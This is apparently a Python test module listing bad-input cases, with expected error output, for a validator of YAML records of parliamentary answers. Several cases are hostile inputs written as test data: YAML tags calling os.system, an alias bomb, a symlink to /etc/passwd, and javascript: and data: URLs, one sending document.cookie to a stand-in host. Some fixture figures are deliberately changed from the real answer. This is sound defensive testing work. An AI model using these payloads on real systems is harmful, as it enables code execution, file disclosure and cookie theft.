"""The bad-input corpus: each case, where its file goes, and exactly what `validate` prints.

Every case is added to the valid baseline data folder of ``tests/baseline.py`` (three records, two
answers and a registry, none with a problem), so the lines below are all that ``python -m
commitments validate data`` prints, run from the folder holding ``data``. A case is one file in
this folder (``<name>.yaml``, copied to each of ``dest``), or is made in code by ``build`` when it
cannot be committed (a 20 MB file, deep nesting, symbolic links, a named pipe) or needs more than
one file (records and the corrected answer they quote).
"""

from __future__ import annotations

import os
from collections.abc import Callable
from dataclasses import dataclass
from pathlib import Path

HERE = Path(__file__).parent
RECORD_FILE_LIMIT = "1,000,000"


@dataclass(frozen=True)
class Case:
    name: str
    expected: tuple[str, ...]
    """The exact lines printed on standard output, in order."""
    dest: tuple[str, ...] = ()
    """Where the case's file goes in the data folder; default ``records/<name>.yaml``."""
    build: Callable[[Path], None] | None = None
    """Makes the case in the data folder, instead of copying a file."""
    kept: tuple[str, ...] = ()
    """Ids of the case's own records that still load despite the problem. A record whose own
    file has the problem is unverified: left out of every output and listed, unless asked for."""
    clean: tuple[str, ...] = ()
    """Those of ``kept`` whose own file has no problem (another file has it): verified."""

    @property
    def unverified(self) -> set[str]:
        return set(self.kept) - set(self.clean)

    alone: bool = False
    """Changes what other files are checked against (the registry), so it runs by itself."""

    @property
    def source(self) -> Path:
        return HERE / f"{self.name}.yaml"

    def install(self, data: Path) -> None:
        if self.build:
            self.build(data)
            return
        for dest in self.dest or (f"records/{self.name}.yaml",):
            (data / dest).write_bytes(self.source.read_bytes())


def line(name: str, number: int, message: str, hint: str, record: str = "") -> str:
    """One expected line for ``records/<name>.yaml``."""
    return f"data/records/{name}.yaml:{number}: {record or name}: {message} (hint: {hint})"


# ------------------------------------------------------------------------------------------------
# Cases made in code


FIGURE_HEAD = (
    "id: {name}\n"
    "kind: figure\n"
    "title: Reflex co-operation led to 67 arrests since April 2001\n"
    "quote: Since April 2001 this has resulted in the disruption of 14 trafficking organisations "
    "and 67 arrests.\n"
    "source: hc-2002-07-08-65708\n"
    "programmes: [Reflex]\n"
    "agencies: [Europol]\n"
)


def _write_big(data: Path) -> None:
    """A 20 MB record: a title of twenty million characters (never read past the limit)."""
    with open(data / "records" / "file-20mb.yaml", "wb") as handle:
        head = FIGURE_HEAD.format(name="file-20mb").encode() + b"tags: [arrests]\nnote: "
        handle.write(head)
        chunk = b"lol " * 262_144  # 1 MiB
        left = 20_000_000 - len(head) - 1
        while left > 0:
            piece = chunk[:left]
            handle.write(piece)
            left -= len(piece)
        handle.write(b"\n")


def _write_deep_brackets(data: Path) -> None:
    """100,000 nested brackets: crashed PyYAML's C composer and took 24 s to parse."""
    text = FIGURE_HEAD.format(name="deep-brackets") + "tags: " + "[" * 100_000 + "]" * 100_000
    (data / "records" / "deep-brackets.yaml").write_text(text + "\n", encoding="utf-8")


def _write_deep_dashes(data: Path) -> None:
    """A list nested 50,000 deep in block style: `- - - - … x`."""
    text = FIGURE_HEAD.format(name="deep-dashes") + "tags:\n" + "- " * 50_000 + "x\n"
    (data / "records" / "deep-dashes.yaml").write_text(text, encoding="utf-8")


def _write_many_values(data: Path) -> None:
    """25,000 tags: under the byte limit, over the value limit (value 20,001 is on line 19,998)."""
    text = "id: too-many-values\ntags:\n" + "- arrests\n" * 25_000
    (data / "records" / "too-many-values.yaml").write_text(text, encoding="utf-8")


def _outside_record(data: Path) -> Path:
    outside = data.parent / "outside"
    outside.mkdir(exist_ok=True)
    secret = outside / "secret.yaml"
    secret.write_text(FIGURE_HEAD.format(name="secret"), encoding="utf-8")
    return secret


def _link_outside(data: Path) -> None:
    _outside_record(data)
    os.symlink(Path("..") / ".." / "outside" / "secret.yaml", data / "records" / "leak.yaml")


def _link_system_file(data: Path) -> None:
    os.symlink("/etc/passwd", data / "records" / "passwd.yaml")


def _link_registry_outside(data: Path) -> None:
    secret = _outside_record(data)
    (data / "registry.yaml").unlink()
    os.symlink(secret, data / "registry.yaml")


def _folder_named_yaml(data: Path) -> None:
    (data / "records" / "folder.yaml").mkdir()
    (data / "records" / "folder.yaml" / "inside.yaml").write_text("id: inside\n", encoding="utf-8")


def _named_pipe(data: Path) -> None:
    os.mkfifo(data / "records" / "pipe.yaml")


def _upper_case_suffix(data: Path) -> None:
    text = (HERE / "byte-order-mark.yaml").read_bytes()[3:].replace(b"byte-order-mark", b"shout")
    (data / "records" / "shout.YAML").write_bytes(text)


CORRECTED_ANSWER = """\
id: hc-2024-12-06-17612
house: Commons
date: 2024-12-06
citation: UIN 17612, tabled 3 December 2024, answered 6 December 2024
written_question:
  uins: ['17612']
  date_tabled: 2024-12-03
  date_answered: 2024-12-06
  holding_answer_date: null
  corrected: 2024-12-09
  answering_body: Foreign, Commonwealth and Development Office
  answering_member: null
  asking_member: null
  attachments: []
  url: https://questions-statements.parliament.uk/written-questions/detail/2024-12-03/17612
  api_id: 1746584
uins: ['17612']
asker: null
minister: null
department: Foreign, Commonwealth and Development Office
heading: 'Kosovo: Inland Waterways'
question: To ask the Secretary of State for Foreign, Commonwealth and Development Affairs, whether
  he has had discussions with his Kosovan counterpart on the attack on the Iber Lepenci water canal
  on 28 November 2024.
answer: The Foreign Secretary messaged Kosovo's President Osmani on 30 November and on 1 December I
  spoke to Kosovo's Prime Minister Kurti, following the attack on critical infrastructure in
  northern Kosovo the previous day. We sent 15 officers and 3 engineers.
column_breaks: []
url: https://questions-statements.parliament.uk/written-questions/detail/2024-12-03/17612
complete: false
flags:
- kind: correction
  detail: corrected on 9 December 2024
- kind: correction_original
  detail: the answer as first given on 6 December 2024, before its correction
  text: The Foreign Secretary messaged Kosovo's President Osmani on 30 November, following the
    attack on critical infrastructure in northern Kosovo the previous day. We sent 12 officers and
    3 engineers. He expressed his shock and welcomed
- kind: missing_asker
  detail: asking member id 4805 is not named in the record
- kind: missing_minister
  detail: answering member id 4264 is not named in the record
"""
"""UIN 17612 as the loaders write it, its figures changed (12 officers first given, 15 after the
correction of 9 December 2024; the real correction changes no figure)."""

OFFICERS_HEAD = """\
id: {name}
kind: figure
title: Officers sent to Kosovo
quote: We sent {quoted} officers and 3 engineers.
source: hc-2024-12-06-17612
programmes: []
agencies: []
tags: []
metric: immigration-liaison-officers
value: {quoted}
unit: count
period:
  words: {period}
  start: 2024-12-{start}
  end: 2024-12-{end}
basis: point_in_time
history:
  - date: 2024-12-06
    status: reported
    source: hc-2024-12-06-17612
"""


def _quoting_the_text_first_given(data: Path) -> None:
    """The corrected answer, a figure quoting its text as first given with no correction after
    it, and a correction quoting that text (the original and corrected quotes swapped)."""
    (data / "answers" / "hc-2024-12-06-17612.yaml").write_text(CORRECTED_ANSWER, encoding="utf-8")
    records = data / "records"
    uncorrected = OFFICERS_HEAD.format(
        name="first-given-without-correction", quoted=12, period="December 2024", start="06",
        end="06",
    )  # fmt: skip
    (records / "first-given-without-correction.yaml").write_text(uncorrected, encoding="utf-8")
    swapped = OFFICERS_HEAD.format(
        name="correction-quoting-first-given", quoted=15, period="in December 2024", start="01",
        end="31",
    ) + (
        "  - date: 2024-12-09\n"
        "    status: corrected\n"
        "    source: hc-2024-12-06-17612\n"
        "    quote: We sent 12 officers and 3 engineers.\n"
        "    value: 12\n"
    )  # fmt: skip
    (records / "correction-quoting-first-given.yaml").write_text(swapped, encoding="utf-8")


LIMIT_HINT = "one file holds one record or answer; split or trim it"
LINK_HINT = "copy the file into the data folder instead of linking to it"
TAG_HINT = "remove the tag; records hold plain text, numbers, dates, lists and mappings"
STATUS_HINT = (
    "use one of 'reported', 'superseded', 'corrected', 'disputed', 'restated' or 'needs_review'"
)
SYNTAX = "YAML syntax: "
TAB = ("YAML syntax: a tab is used for indentation", "indent with spaces")
NOT_UTF8_HINT = "save the file as UTF-8 (it may be Latin-1 or Windows-1252: £ and curly quotes)"
ADDRESS_HINT = "page addresses start https:// or http://"
ID_HINT = "ids are lower-case letters, digits and hyphens, such as reflex-arrests-2002"
NUMBER_HINT = "write a plain number without quotes, commas or units"
QUOTE_VALUE_HINT = "the quote must state it in numerals or words; fix the value or the quote"
ALLOWED_FIGURE_KEYS = (
    "allowed here: agencies, basis, history, id, kind, lower_bound, metric, period, programmes, "
    "quote, source, tags, title, unit, value, value_high"
)
NEXT_TOKEN = "while scanning for the next token"

# ------------------------------------------------------------------------------------------------
# The corpus

CASES: list[Case] = [
    # YAML syntax
    Case(
        "syntax-unclosed-quote",
        (
            line(
                "syntax-unclosed-quote",
                3,
                SYNTAX + "while scanning a quoted scalar found unexpected end of stream",
                "close the quote opened on this line",
            ),
        ),
    ),
    Case(
        "syntax-colon-in-value",
        (
            line(
                "syntax-colon-in-value",
                3,
                SYNTAX + "mapping values are not allowed in this context",
                "quote a value that contains ': ', or fix the indentation above",
            ),
        ),
    ),
    Case(
        "syntax-unclosed-bracket",
        (
            line(
                "syntax-unclosed-bracket",
                6,
                SYNTAX + "while parsing a flow sequence did not find expected ',' or ']'",
                "close the bracket opened on this line",
            ),
        ),
    ),
    Case(
        "syntax-stray-text",
        (
            line(
                "syntax-stray-text",
                17,
                SYNTAX + "while scanning a simple key could not find expected ':'",
                "each line of a mapping is `key: value`; add the `:`, or indent the line if it "
                "continues the value above",
            ),
        ),
    ),
    Case("tab-indentation", (line("tab-indentation", 13, *TAB),)),
    Case("tab-in-history", (line("tab-in-history", 19, *TAB),)),
    Case(
        "wrong-indentation",
        (
            line(
                "wrong-indentation",
                14,
                SYNTAX + "while parsing a block mapping did not find expected key",
                "line up the keys of one mapping at the same indentation",
            ),
        ),
    ),
    Case(
        "wrong-indentation-history",
        (
            line(
                "wrong-indentation-history",
                20,
                SYNTAX + "while parsing a block collection did not find expected '-' indicator",
                "line up the `-` of each list item, and the keys inside an item",
            ),
        ),
    ),
    Case(
        "two-documents",
        (
            line(
                "two-documents",
                22,
                "file holds more than one YAML document",
                "one file holds one record; remove the `---` and what follows, or move it to its "
                "own file",
            ),
        ),
    ),
    # Encoding and bytes
    Case(
        "not-utf8-latin1",
        (
            line(
                "not-utf8-latin1",
                3,
                "not UTF-8: byte 0xa3 at column 50 cannot be decoded",
                NOT_UTF8_HINT,
            ),
        ),
    ),
    Case(
        "not-utf8-windows-quotes",
        (
            line(
                "not-utf8-windows-quotes",
                3,
                "not UTF-8: byte 0x93 at column 8 cannot be decoded",
                NOT_UTF8_HINT,
            ),
        ),
    ),
    Case(
        "byte-order-mark",
        (
            line(
                "byte-order-mark",
                1,
                "file starts with a byte-order mark",
                "save the file as UTF-8 without BOM; it was read correctly",
            ),
        ),
        kept=("byte-order-mark",),
    ),
    Case(
        "utf16",
        (line("utf16", 1, "file is UTF-16, not UTF-8", "save the file as UTF-8 (without BOM)"),),
    ),
    Case(
        "control-character",
        (
            line(
                "control-character",
                3,
                "character U+001B is not allowed in YAML text",
                "remove the control character; write it as an escape inside double quotes if "
                "needed",
            ),
        ),
    ),
    Case(
        "binary-file",
        (
            line(
                "binary-file",
                1,
                "file is binary, not YAML text (it holds a zero byte)",
                "replace it with a UTF-8 YAML file",
            ),
        ),
    ),
    # Shape of the file
    Case(
        "empty-file",
        (line("empty-file", 1, "file is empty", "write the record's fields, or delete it"),),
    ),
    Case(
        "blank-file",
        (line("blank-file", 1, "file is empty", "write the record's fields, or delete it"),),
    ),
    Case(
        "comments-only",
        (
            line(
                "comments-only",
                1,
                "file holds only comments",
                "write the record's fields, or delete it",
            ),
        ),
    ),
    Case(
        "list-not-mapping",
        (
            line(
                "list-not-mapping",
                1,
                "file holds a list, not a mapping of fields",
                "a record file is `key: value` lines, such as `id: my-record`",
            ),
        ),
    ),
    Case(
        "single-value",
        (
            line(
                "single-value",
                1,
                "file holds a single value, not a mapping of fields",
                "a record file is `key: value` lines, such as `id: my-record`",
            ),
        ),
    ),
    Case(
        "duplicate-key",
        (
            line(
                "duplicate-key",
                10,
                "duplicate key 'title' (first on line 3)",
                "keep one; YAML would silently use the last",
            ),
        ),
    ),
    Case(
        "duplicate-key-in-event",
        (
            line(
                "duplicate-key-in-event",
                22,
                "duplicate key 'status' (first on line 19)",
                "keep one; YAML would silently use the last",
            ),
        ),
    ),
    Case(
        "complex-key",
        (
            line(
                "complex-key",
                22,
                "a list is used as a key",
                "keys are plain words such as `title:`",
            ),
        ),
    ),
    # Unsafe YAML
    Case(
        "python-object-tag",
        (
            line(
                "python-object-tag",
                10,
                "tag '!!python/object/apply:os.system' is not allowed",
                TAG_HINT,
            ),
        ),
    ),
    Case(
        "python-name-tag",
        (line("python-name-tag", 3, "tag '!!python/name:os.system' is not allowed", TAG_HINT),),
    ),
    Case("local-tag", (line("local-tag", 4, "tag '!include' is not allowed", TAG_HINT),)),
    Case("binary-tag", (line("binary-tag", 10, "tag '!!binary' is not allowed", TAG_HINT),)),
    Case(
        "alias-bomb",
        (
            line(
                "alias-bomb",
                3,
                "anchor &a: anchors and aliases are not allowed (and 89 more in this file)",
                "write each value out in full",
            ),
        ),
    ),
    Case(
        "anchor-and-alias",
        (
            line(
                "anchor-and-alias",
                4,
                "anchor &quote: anchors and aliases are not allowed (and 1 more in this file)",
                "write each value out in full",
            ),
        ),
    ),
    Case(
        "merge-key",
        (line("merge-key", 18, "merge keys (<<) are not allowed", "write the fields out"),),
    ),
    # Heavy files, made at test time
    Case(
        "file-20mb",
        (
            line(
                "file-20mb",
                1,
                f"file is 20,000,000 bytes, over the limit of {RECORD_FILE_LIMIT}",
                LIMIT_HINT,
            ),
        ),
        build=_write_big,
    ),
    Case(
        "deep-brackets",
        (
            line(
                "deep-brackets",
                8,
                "values nested more than 20 levels deep",
                "a record nests a few levels at most; check the brackets and indentation",
            ),
        ),
        build=_write_deep_brackets,
    ),
    Case(
        "deep-dashes",
        (
            line(
                "deep-dashes",
                9,
                "values nested more than 20 levels deep",
                "a record nests a few levels at most; check the brackets and indentation",
            ),
        ),
        build=_write_deep_dashes,
    ),
    Case(
        "too-many-values",
        (line("too-many-values", 19_998, "file holds more than 20,000 values", LIMIT_HINT),),
        build=_write_many_values,
    ),
    # Values YAML reads but a record never holds
    Case(
        "impossible-date",
        (
            line(
                "impossible-date",
                14,
                "2002-02-30 is not a real date (day is out of range for month)",
                "dates are YYYY-MM-DD; check the day and month",
            ),
        ),
    ),
    Case(
        "infinite-value",
        (
            line(
                "infinite-value",
                10,
                ".inf is not a finite number",
                "write the number the answer gives, in digits",
            ),
        ),
    ),
    Case(
        "not-a-number",
        (
            line(
                "not-a-number",
                10,
                ".nan is not a finite number",
                "write the number the answer gives, in digits",
            ),
        ),
    ),
    # The model: keys, required fields, types, vocabularies
    Case(
        "unknown-key",
        (
            line("unknown-key", 1, "missing required field 'value'", "add it; see data/README.md"),
            line("unknown-key", 10, "unknown key 'valeu'", "did you mean 'value'?"),
        ),
    ),
    Case(
        "unknown-key-nested",
        (
            line(
                "unknown-key-nested",
                14,
                "unknown key 'period.begin'",
                "allowed here: end, start, words",
            ),
        ),
    ),
    Case(
        "many-problems",
        (
            *(
                line(
                    "many-problems",
                    16 + i,
                    f"unknown key 'note{i}'",
                    "did you mean 'quote'?" if i < 10 else ALLOWED_FIGURE_KEYS,
                )
                for i in range(1, 21)
            ),
            line(
                "many-problems",
                37,
                "and 10 more problems in this file, not listed",
                "fix the problems above and validate again",
            ),
        ),
    ),
    Case(
        "missing-field",
        (line("missing-field", 1, "missing required field 'title'", "add it; see data/README.md"),),
    ),
    Case(
        "missing-kind",
        (line("missing-kind", 1, "missing `kind`", "add `kind: commitment` or `kind: figure`"),),
    ),
    Case(
        "unknown-kind",
        (
            line(
                "unknown-kind",
                2,
                "kind is 'promise'; expected 'commitment' or 'figure'",
                "add `kind: commitment` or `kind: figure`",
            ),
        ),
    ),
    Case(
        "kind-as-list",
        (
            line(
                "kind-as-list",
                2,
                "kind is ['figure', 'commitment']; expected 'commitment' or 'figure'",
                "add `kind: commitment` or `kind: figure`",
            ),
        ),
    ),
    Case(
        "value-as-text",
        (
            line(
                "value-as-text",
                10,
                "value: Input should be a valid number, got str '67'",
                NUMBER_HINT,
            ),
        ),
    ),
    Case(
        "value-with-commas",
        (
            line(
                "value-with-commas",
                10,
                "value: Input should be a valid number, got str '1,400'",
                NUMBER_HINT,
            ),
        ),
    ),
    Case(
        "programmes-as-text",
        (
            line(
                "programmes-as-text",
                6,
                "programmes: Input should be a valid list, got str 'Reflex'",
                "write a list: [a, b] or one `- item` per line",
            ),
        ),
    ),
    Case(
        "history-as-mapping",
        (
            line(
                "history-as-mapping",
                17,
                "history: Input should be a valid list",
                "write a list: [a, b] or one `- item` per line",
            ),
        ),
    ),
    Case(
        "empty-history",
        (
            line(
                "empty-history",
                17,
                "history: needs at least 1 item",
                "a record's history starts with the event of its source answer; see data/README.md",
            ),
        ),
    ),
    Case(
        "date-with-time",
        (
            line(
                "date-with-time",
                18,
                "history.0.date: a date without a time is expected (YYYY-MM-DD)",
                "see data/README.md for this field's form",
            ),
        ),
    ),
    Case(
        "unknown-status",
        (line("unknown-status", 19, "history.0.status: 'kept' is not allowed", STATUS_HINT),),
    ),
    Case(
        "commitment-status-on-figure",
        (
            line(
                "commitment-status-on-figure",
                19,
                "history.0.status: 'delivered' is not allowed",
                STATUS_HINT,
            ),
        ),
    ),
    Case(
        "status-very-long",
        (
            line(
                "status-very-long",
                19,
                "history.0.status: 'reportedreportedreportedreportedreportedreportedreportedrep…"
                " is not allowed",
                STATUS_HINT,
            ),
        ),
    ),
    Case(
        "value-high-below-value",
        (
            line(
                "value-high-below-value",
                1,
                "value_high 14 is below value 67",
                "see data/README.md",
            ),
        ),
    ),
    Case(
        "event-with-two-sources",
        (
            line(
                "event-with-two-sources",
                18,
                "history.0: a status event needs exactly one of `source` (an answer id) or "
                "`document`",
                "see data/README.md for this field's form",
            ),
        ),
    ),
    # Ids and files
    Case(
        "id-not-file-name",
        (
            line(
                "id-not-file-name",
                1,
                "id 'reflex-arrests-67' does not match the file name 'id-not-file-name.yaml'",
                "rename the file to reflex-arrests-67.yaml or change the id",
                record="reflex-arrests-67",
            ),
        ),
    ),
    Case(
        "id-path-and-escape",
        (line("id-path-and-escape", 1, r"id: '\x1b[2J../../registry' is not an id", ID_HINT),),
    ),
    Case(
        "same-id-twice",
        (
            "data/records/same-id-twice.yml:1: same-id-twice: id already used by "
            "data/records/same-id-twice.yaml (hint: ids are unique across answers and records; "
            "rename one file and its id)",
        ),
        dest=("records/same-id-twice.yaml", "records/same-id-twice.yml"),
        kept=("same-id-twice",),
        clean=("same-id-twice",),  # the first file loads; the second, refused, has the problem
    ),
    Case(
        "record-with-answer-id",
        (
            "data/records/hc-2002-07-08-65708.yaml:1: hc-2002-07-08-65708: id already used by "
            "data/answers/hc-2002-07-08-65708.yaml (hint: ids are unique across answers and "
            "records; rename one file and its id)",
        ),
        dest=("records/hc-2002-07-08-65708.yaml",),
    ),
    Case(
        "symlink-outside",
        (
            line(
                "leak",
                1,
                "symbolic link points outside the data folder",
                LINK_HINT,
            ),
        ),
        build=_link_outside,
    ),
    Case(
        "symlink-system-file",
        (line("passwd", 1, "symbolic link points outside the data folder", LINK_HINT),),
        build=_link_system_file,
    ),
    Case(
        "folder-named-yaml",
        (
            line(
                "folder",
                1,
                "not a regular file",
                "replace it with a YAML file, or remove it",
            ),
        ),
        build=_folder_named_yaml,
    ),
    Case(
        "named-pipe",
        (line("pipe", 1, "not a regular file", "replace it with a YAML file, or remove it"),),
        build=_named_pipe,
    ),
    Case(
        "upper-case-suffix",
        (
            "data/records/shout.YAML:1: shout: file ignored: its name ends '.YAML' "
            "(hint: rename it to shout.yaml (lower case) so it is read)",
        ),
        build=_upper_case_suffix,
    ),
    # Checks across records: the record loads, and the problem is reported
    Case(
        "value-not-in-quote",
        (
            line(
                "value-not-in-quote", 10, "value 68 does not appear in the quote", QUOTE_VALUE_HINT
            ),
        ),
        kept=("value-not-in-quote",),
    ),
    Case(
        "quote-not-in-source",
        (
            line(
                "quote-not-in-source",
                4,
                "quote not found verbatim in answer hc-2002-07-08-65708",
                "copy the words exactly from the answer's text (line breaks and spaces aside)",
            ),
        ),
        kept=("quote-not-in-source",),
    ),
    Case(
        "quote-from-spliced-fragment",
        (
            line(
                "quote-from-spliced-fragment",
                4,
                "quote comes from a fragment of another answer spliced into hc-2002-07-08-65708",
                "a spliced fragment is never attributed to the answer; quote the answer itself",
            ),
        ),
        kept=("quote-from-spliced-fragment",),
    ),
    Case(
        "dangling-source",
        (
            line(
                "dangling-source",
                5,
                "source answer 'hc-2002-07-08-65709' not found",
                "did you mean 'hc-2002-07-08-65708'?",
            ),
            line(
                "dangling-source",
                15,
                "source answer 'hc-2002-07-08-65709' not found",
                "did you mean 'hc-2002-07-08-65708'?",
            ),
        ),
        kept=("dangling-source",),
    ),
    Case(
        "dangling-event-source",
        (
            line(
                "dangling-event-source",
                15,
                "source answer 'hl-2004-05-04-107' not found",
                "did you mean 'hl-2004-05-04-107wa'?",
            ),
        ),
        kept=("dangling-event-source",),
    ),
    Case(
        "events-out-of-order",
        (
            line(
                "events-out-of-order",
                21,
                "status events out of order: 2002-07-08 comes after 2004-05-04",
                "list status events oldest first",
            ),
        ),
        kept=("events-out-of-order",),
    ),
    Case(
        "event-in-the-future",
        (
            line(
                "event-in-the-future",
                18,
                "event date 2999-07-08 is in the future",
                "date the event by when its source was given; check the year",
            ),
        ),
        kept=("event-in-the-future",),
    ),
    Case(
        "event-before-answer",
        (
            line(
                "event-before-answer",
                18,
                "event date 2002-07-01 is before the record's answer (2002-07-08)",
                "no status before the record was first said; check the date or the source",
            ),
        ),
        kept=("event-before-answer",),
    ),
    Case(
        "percentage-over-100",
        (
            line(
                "percentage-over-100",
                10,
                "value 190 does not appear in the quote",
                QUOTE_VALUE_HINT,
            ),
            line(
                "percentage-over-100",
                10,
                "percentage 190 is over 100",
                "a share is at most 100 per cent; check the value and unit",
            ),
        ),
        kept=("percentage-over-100",),
    ),
    Case(
        "negative-count",
        (
            line("negative-count", 10, "value -67 does not appear in the quote", QUOTE_VALUE_HINT),
            line("negative-count", 10, "value -67 is negative", "counts are never negative"),
        ),
        kept=("negative-count",),
    ),
    Case(
        "due-before-answer",
        (
            line(
                "due-before-answer",
                10,
                "due date 2001-12-31 is before its answer (2002-07-08)",
                "a commitment falls due after it is made; check the year",
            ),
        ),
        kept=("due-before-answer",),
    ),
    Case(
        # the loaders once clipped a span to its answer; the words mean from 1 July
        "due-words-disagree",
        (
            line(
                "due-words-disagree",
                9,
                "due 2002-07-08 to 2002-12-31 is not what 'in the second half of this year' means",
                "'in the second half of this year' said 2002-07-08 means 2002-07-01 to "
                "2002-12-31; set its start: 2002-07-01 and end: 2002-12-31",
            ),
        ),
        kept=("due-words-disagree",),
    ),
    # Page addresses
    Case(
        "javascript-address",
        (
            line(
                "javascript-address",
                19,
                "history.1.document.url: 'javascript:alert(document.cookie)' is not a web address",
                ADDRESS_HINT,
            ),
        ),
    ),
    Case(
        "data-address",
        (
            line(
                "data-address",
                21,
                "history.1.document.url: "
                "'data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==' is not a web address",
                ADDRESS_HINT,
            ),
        ),
    ),
    Case(
        "answer-javascript-address",
        (
            "data/answers/hl-2004-05-04-108wa.yaml:17: hl-2004-05-04-108wa: url: "
            "'javascript:fetch(\"https://example.org/\"+document.cookie)' is not a web address "
            f"(hint: {ADDRESS_HINT})",
        ),
        dest=("answers/hl-2004-05-04-108wa.yaml",),
    ),
    # Answers of the Written Questions service: the rules that fit them
    Case(
        "answer-lords-uin-without-hl",
        (
            "data/answers/hl-2021-02-01-12265.yaml:6: hl-2021-02-01-12265: UIN '12265' is not "
            "a Lords UIN (hint: a Lords UIN starts HL (HL3235), as the service prints it)",
        ),
        dest=("answers/hl-2021-02-01-12265.yaml",),
    ),
    Case(
        "answer-tabled-after-answered",
        (
            "data/answers/hc-2024-01-10-7926.yaml:7: hc-2024-01-10-7926: date tabled 2024-01-15 "
            "is after the date answered 2024-01-10 (hint: a question is tabled before it is "
            "answered: check both dates)",
        ),
        dest=("answers/hc-2024-01-10-7926.yaml",),
    ),
    Case(
        "answer-citation-parts-and-written-question",
        (
            "data/answers/hc-2024-02-14-7862.yaml:1: hc-2024-02-14-7862: an answer has exactly "
            "one of `citation_parts` (printed Hansard), `written_question` (the Written "
            "Questions service) and `written_statement` (a written ministerial statement), not "
            "both `citation_parts` and `written_question` (hint: see data/README.md)",
        ),
        dest=("answers/hc-2024-02-14-7862.yaml",),
    ),
    # Corrections: the corrected value is the event's, and text first given is quoted only when
    # a correction follows
    Case(
        "value-on-reported-event",
        (
            line(
                "value-on-reported-event",
                18,
                "history.0: `value` is given only on a `corrected` event (the value the "
                "correction gives), not on a `reported` one",
                "see data/README.md for this field's form",
            ),
        ),
    ),
    Case(
        "corrected-value-not-in-quote",
        (
            line(
                "corrected-value-not-in-quote",
                26,
                "corrected value 13 does not appear in its quote",
                "the event's quote must state it in numerals or words; fix the value or the quote",
            ),
        ),
        kept=("corrected-value-not-in-quote",),
    ),
    Case(
        "quoting-the-text-first-given",
        (
            line(
                "correction-quoting-first-given",
                24,
                "quote comes from text set aside from hc-2024-12-06-17612 (correction_original)",
                "text set aside is never attributed to the answer; quote the answer itself",
            ),
            line(
                "first-given-without-correction",
                4,
                "quote comes from text set aside from hc-2024-12-06-17612 (correction_original)",
                "text set aside is never attributed to the answer; quote the answer itself",
            ),
        ),
        build=_quoting_the_text_first_given,
        kept=("first-given-without-correction", "correction-quoting-first-given"),
    ),
    # The registry: records still load, their names are not checked against a broken registry
    Case(
        "registry-syntax-error",
        (
            "data/registry.yaml:3: registry: YAML syntax: while parsing a flow sequence did not "
            "find expected ',' or ']' (hint: close the bracket opened on this line)",
        ),
        dest=("registry.yaml",),
        alone=True,
    ),
    Case(
        "registry-list",
        (
            "data/registry.yaml:1: registry: file holds a list, not a mapping of fields "
            "(hint: a record file is `key: value` lines, such as `id: my-record`)",
        ),
        dest=("registry.yaml",),
        alone=True,
    ),
    Case(
        "registry-unknown-key",
        (
            "data/registry.yaml:4: registry: unknown key 'programmes.0.alias' "
            "(hint: did you mean 'aliases'?)",
        ),
        dest=("registry.yaml",),
        alone=True,
    ),
    Case(
        "registry-symlink-outside",
        (
            "data/registry.yaml:1: registry: symbolic link points outside the data folder "
            f"(hint: {LINK_HINT})",
        ),
        build=_link_registry_outside,
        alone=True,
    ),
]

HEAVY = ("file-20mb", "deep-brackets", "deep-dashes", "too-many-values", "alias-bomb")
"""Cases that must stay fast and small however they are written."""
